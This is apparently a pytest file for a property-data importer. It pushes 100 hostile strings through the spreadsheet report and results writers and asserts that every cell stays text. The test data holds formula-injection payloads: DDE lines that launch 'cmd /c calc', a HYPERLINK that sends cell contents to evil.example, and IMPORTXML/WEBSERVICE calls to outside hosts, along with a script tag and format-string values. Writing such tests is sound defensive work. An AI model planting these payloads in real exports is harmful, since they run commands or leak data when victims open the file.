"""100 hostile strings through the report and results writers: always text, never a crash."""

from __future__ import annotations

import csv
import itertools
from pathlib import Path

import openpyxl

from importer import check
from importer.onoffice.client import OnOfficeClient
from importer.output.results import write_results
from importer.run.submit import run_import
from importer.sandbox import Sandbox

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\t=", " =", "\n=", "0x=", "'=", '"=']
PAYLOADS = [
    "cmd|' /c calc'!A1",
    'HYPERLINK("http://evil.example/?"&A1,"klick")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    'IMPORTXML(CONCAT("http://x/",A1),"//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "2+5+cmd|'/c calc'!A1",
    'WEBSERVICE("http://x/")',
]
CONTROLS = [f"a{chr(c)}b" for c in (*range(0, 9), 11, 12, *range(14, 32), 127)]
EXTRA = [
    "\u202eevil\u202c",
    "zero\u200bwidth",
    "\ufeffbom",
    "😀" * 5,
    "x" * 40_000,
    "]]>",
    "<script>alert(1)</script>",
    "&amp;&lt;",
    "_x0041_",
    "%s%n%x",
]


def hostile() -> list[str]:
    pool = [p + q for p, q in itertools.product(PREFIXES, PAYLOADS)] + CONTROLS + EXTRA
    return pool[:100]


def test_one_hundred_hostile_strings_stay_text(tmp_path: Path) -> None:
    strings = hostile()
    assert len(strings) == 100
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(["Start", "Notiz"])
        writer.writerows(["01.12.2027 10:00", text.replace("\x00", "")] for text in strings)
    mapping = tmp_path / "m.yaml"
    mapping.write_text("start: Start\nend: {minutes: 30}\nfields: {note: Notiz}\n")
    report = check(source, mapping, report=tmp_path / "hostile.check.xlsx")
    with Sandbox() as sb, OnOfficeClient(sb.url, sb.credentials) as client:
        result = run_import(source, mapping, client=client, journal_path=tmp_path / "j.sqlite")
    written = write_results(result, tmp_path / "hostile.results.xlsx")
    for path in (report.report_path, written):
        assert path is not None
        rows = openpyxl.load_workbook(path)[("Rows" if path == report.report_path else "Results")]
        formulas = [c.coordinate for row in rows.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        column = [c.value for c in rows[1]].index("Notiz")
        notes = [row[column] for row in rows.iter_rows(min_row=2)]
        assert len(notes) == 100
        assert all(c.data_type == "s" for c in notes if c.value is not None)
